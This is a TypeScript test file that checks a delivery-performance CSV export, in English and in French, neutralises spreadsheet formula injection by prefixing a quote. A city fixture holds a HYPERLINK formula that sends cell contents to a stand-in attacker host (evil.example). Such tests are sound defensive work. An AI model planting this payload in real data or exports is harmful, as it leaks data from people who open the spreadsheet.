import { expect, test } from "vitest";
import { performanceCsv } from "./csv";
import type { DeliveryPerformance, PerformanceFigures } from "./summarise";

const figures: PerformanceFigures = {
  shipped: 3,
  delivered: 2,
  onTheWay: 1,
  withFailedAttempt: 1,
  returned: 0,
  codShipped: 3,
  codRefused: 0,
  deliveredShare: 0.6667,
  failedAttemptRate: 0.3333,
  returnRate: 0,
  codRefusalRate: 0,
  medianDays: 2.5,
  p90Days: 3,
  deliveredWithPromise: 2,
  deliveredOnTime: 1,
  onTimeShare: 0.5,
};
const EVIL_CITY = '-1+HYPERLINK("http://evil.example/?"&A1,"x")';
const report: DeliveryPerformance = {
  from: "2026-11-01",
  to: "2026-11-30",
  timeZone: "Africa/Abidjan",
  asOf: "2026-11-30T12:00:00.000Z",
  truncated: false,
  all: figures,
  byPayment: [{ ...figures, key: "COD", label: ["COD"] }],
  byCountry: [{ ...figures, key: "CI", label: ["CI"] }],
  byRegion: [{ ...figures, key: "CI|Lagunes", label: ["CI", "+Lagunes"] }],
  byCity: [{ ...figures, key: "CI|Lagunes|x", label: ["CI", "Lagunes", EVIL_CITY] }],
  deliveredByDay: [],
};

test("a buyer's city or region that reads as a formula is text; the figures are numbers", () => {
  const lines = performanceCsv(report).split("\r\n");
  expect(lines[0]).toBe(
    "group,country,region,city,payment,shipped,delivered,on_the_way,with_failed_attempt,returned,cod_shipped,cod_refused,delivered_share,failed_attempt_rate,return_rate,cod_refusal_rate,median_days,p90_days,delivered_with_promise,delivered_on_time,on_time_share,from,to,time_zone",
  );
  const numbers = "3,2,1,1,0,3,0,0.6667,0.3333,0,0,2.5,3,2,1,0.5,2026-11-01,2026-11-30,Africa/Abidjan";
  expect(lines[1]).toBe(`all,,,,,${numbers}`);
  expect(lines[4]).toBe(`region,CI,'+Lagunes,,,${numbers}`);
  expect(lines[5]).toBe(`city,CI,Lagunes,"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")",,${numbers}`);
});

test("in French: a byte order mark, semicolons, French headers and decimal commas", () => {
  const lines = performanceCsv(report, "fr").split("\r\n");
  expect(lines[0].startsWith("\uFEFFGroupe;Pays;Région;Ville;Paiement;Transmises;Livrées;")).toBe(true);
  expect(lines[1]).toBe("all;;;;;3;2;1;1;0;3;0;0,6667;0,3333;0;0;2,5;3;2;1;0,5;2026-11-01;2026-11-30;Africa/Abidjan");
  expect(lines[5]).toContain(`;"'-1+HYPERLINK(""http://evil.example/?""&A1,""x"")";`);
});
